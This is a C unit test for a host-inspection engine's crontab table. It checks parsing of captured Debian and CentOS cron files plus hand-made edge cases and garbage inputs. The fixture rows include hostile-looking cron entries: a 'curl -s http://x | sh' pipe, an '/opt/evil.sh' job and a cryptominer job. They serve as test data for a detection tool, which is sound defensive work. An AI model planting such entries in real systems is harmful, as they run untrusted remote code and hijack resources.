/*
 * test_golden_cron.c - crontab on a captured tree.
 *
 * tests/golden/roots/cron1: Debian's /etc/crontab (as the cron package
 * installs it), this machine's /etc/cron.d/e2scrub_all and the cron.d
 * .placeholder, and hand-made edge cases: an environment line with
 * blanks ("MAILTO = root"), @events with and without a command, lines
 * with fewer than six fields, runs of blanks and tabs, a trailing
 * backslash (no continuation in cron), CRLF, indented lines and
 * comments, a subdirectory (not read), a symlink to /opt/cronjob
 * (absolute, resolved inside the root), a Debian user crontab under
 * /var/spool/cron/crontabs and a CentOS one under /var/spool/cron.
 * Every expected row was derived by hand from those files with
 * osquery's rules (tables/cron.c header).
 */
#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "engine.h"
#include "strbuf.h"
#include "testutil.h"

#define E2SCRUB "test -e /run/systemd/system || SERVICE_MODE=1 "

static void crontab_all(void **state)
{
	char *root = test_source_path("tests/golden/roots/cron1");
	struct engine *eng = test_engine(root);

	(void)state;
	test_assert_query(
	    eng, "SELECT * FROM crontab",
	    /* /etc/crontab: SHELL=... and comments give no row; the user
	     * field is part of the command; tabs collapse to one space */
	    "NULL|17|*|*|*|*|root cd / && run-parts --report /etc/cron.hourly|/etc/crontab\n"
	    "NULL|25|6|*|*|*|root test -x /usr/sbin/anacron || { cd / && run-parts --report "
	    "/etc/cron.daily; }|/etc/crontab\n"
	    "NULL|47|6|*|*|7|root test -x /usr/sbin/anacron || { cd / && run-parts --report "
	    "/etc/cron.weekly; }|/etc/crontab\n"
	    "NULL|52|6|1|*|*|root test -x /usr/sbin/anacron || { cd / && run-parts --report "
	    "/etc/cron.monthly; }|/etc/crontab\n"
	    /* /etc/cron.d in name order: .placeholder (comments only),
	     * e2scrub_all, edge, zz-link; sub/ is a directory */
	    "NULL|30|3|*|*|0|root " E2SCRUB "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron|"
	    "/etc/cron.d/e2scrub_all\n"
	    "NULL|10|3|*|*|*|root " E2SCRUB "/sbin/e2scrub_all -A -r|/etc/cron.d/e2scrub_all\n"
	    /* "MAILTO = root": three fields, no command */
	    "@reboot|NULL|NULL|NULL|NULL|NULL|root /opt/evil.sh --flag|/etc/cron.d/edge\n"
	    /* the backslash stays; blanks collapse */
	    "NULL|*/5|*|*|*|*|root curl -s http://x | sh \\|/etc/cron.d/edge\n"
	    /* "@daily" and "1 2 3 4": no command */
	    "NULL|0|0|1|jan|mon|root echo multiple spaces|/etc/cron.d/edge\n"
	    /* CRLF */
	    "NULL|30|2|*|*|1-5|root /usr/bin/backup|/etc/cron.d/edge\n"
	    "@hourly|NULL|NULL|NULL|NULL|NULL|nobody cmd|/etc/cron.d/edge\n"
	    "NULL|15|14|1|*|*|indented job|/etc/cron.d/edge\n"
	    /* the symlink, by its own path */
	    "@weekly|NULL|NULL|NULL|NULL|NULL|root /opt/linked-job|/etc/cron.d/zz-link\n"
	    /* /var/spool/cron/ (its crontabs/ is a directory), then
	     * /var/spool/cron/crontabs/ */
	    "NULL|0|*|*|*|*|/usr/local/bin/centos-style|/var/spool/cron/root\n"
	    "NULL|*|*|*|*|*|/home/alice/.cache/miner -o pool:3333|"
	    "/var/spool/cron/crontabs/alice\n");
	test_assert_query(eng, "SELECT count(*) FROM crontab WHERE pid_with_namespace = 0", "15\n");
	test_assert_query(eng, "SELECT count(*) FROM crontab WHERE pid_with_namespace = 12", "0\n");
	test_assert_query(eng, "SELECT path FROM crontab WHERE command LIKE '%miner%'",
	             "/var/spool/cron/crontabs/alice\n");
	engine_free(eng);
	free(root);
}

static void write_file(const char *dir, const char *rel, const void *data, size_t len)
{
	char path[512];
	FILE *fp;

	snprintf(path, sizeof(path), "%s/%s", dir, rel);
	fp = fopen(path, "wb");
	if (!fp || fwrite(data, 1, len, fp) != len || fclose(fp) != 0)
		fail_msg("cannot write %s", path);
}

static void hostile_crontabs(void **state)
{
	static const char tail[] = "\n5 4 * * * root /after/garbage\n";
	char dir[] = "/tmp/spoor-cron-XXXXXX";
	struct strbuf sb = STRBUF_INIT, cmd = STRBUF_INIT;
	struct engine *eng;
	uint32_t x = 7;

	(void)state;
	if (!mkdtemp(dir))
		fail_msg("mkdtemp: %s", strerror(errno));
	eng = test_engine(dir);
	/* no cron file at all: no rows, no error */
	test_assert_query(eng, "SELECT count(*) FROM crontab", "0\n");
	engine_free(eng);

	strbuf_addf(&cmd, "mkdir -p %s/etc/cron.d %s/var/spool/cron/crontabs", dir, dir);
	free(test_run(cmd.buf));
	test_garbage(&sb, 65536, x);
	strbuf_add(&sb, tail, sizeof(tail) - 1);
	write_file(dir, "etc/crontab", sb.buf, sb.len);

	/* a user crontab past the 4 MiB bound: the rows of its complete
	 * lines before the bound, nothing after it */
	strbuf_reset(&sb);
	strbuf_addstr(&sb, "1 1 1 1 1 /first\n");
	while (sb.len < ((size_t)4 << 20) - 20)
		strbuf_addstr(&sb, "# padding padding padding padding padding padding padding\n");
	strbuf_addstr(&sb, "2 2 2 2 2 /cut-at-the-bound\n3 3 3 3 3 /past-the-bound\n");
	write_file(dir, "var/spool/cron/crontabs/mallory", sb.buf, sb.len);

	/* a FIFO in the spool is not opened (it would block) */
	strbuf_reset(&cmd);
	strbuf_addf(&cmd, "mkfifo %s/var/spool/cron/crontabs/fifo", dir);
	free(test_run(cmd.buf));

	eng = test_engine(dir);
	test_assert_query(eng,
	             "SELECT minute, hour, command FROM crontab WHERE path = '/etc/crontab' "
	             "AND command = 'root /after/garbage'",
	             "5|4|root /after/garbage\n");
	test_assert_query(eng, "SELECT command FROM crontab WHERE path LIKE '%mallory'", "/first\n");
	engine_free(eng);
	strbuf_reset(&cmd);
	strbuf_addf(&cmd, "rm -rf '%s'", dir);
	free(test_run(cmd.buf));
	strbuf_release(&cmd);
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(crontab_all),
	    cmocka_unit_test(hostile_crontabs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
